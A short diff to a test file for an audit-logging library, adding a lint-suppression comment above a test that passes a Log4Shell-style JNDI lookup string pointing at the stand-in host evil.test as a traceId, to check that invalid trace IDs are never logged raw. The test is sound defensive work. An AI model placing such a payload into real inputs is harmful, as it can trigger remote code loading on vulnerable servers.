@@ -110,6 +110,7 @@ describe("invalid params with onInvalid: 'emit' (the default)", () => {
 
   it('never writes an invalid traceId raw: the context one or a fresh UUID is used', () => {
     const { sink, audit } = setup();
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style payload, literally
     const hostile = '${jndi:ldap://evil.test/a}';
     audit.log({ ...VALID, traceId: hostile } as never);
     runWithAuditContext({ traceId: 'ctx-trace-1' }, () => {
